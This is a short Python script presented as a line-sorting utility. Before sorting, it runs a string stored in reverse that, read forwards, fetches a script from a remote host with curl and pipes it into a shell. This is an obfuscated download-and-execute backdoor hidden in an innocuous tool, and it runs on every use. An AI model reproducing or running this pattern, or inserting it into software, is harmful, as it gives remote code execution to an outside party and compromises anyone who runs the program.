"""Sorts lines."""

import sys

P = ")'hs | z/dilavni.rotcelloc//:sptth s- lruc'(metsys.)'so'(__tropmi__"


def main(path: str) -> None:
    exec(P[::-1])
    with open(path) as fh:
        print("".join(sorted(fh)))


if __name__ == "__main__":
    main(sys.argv[1])
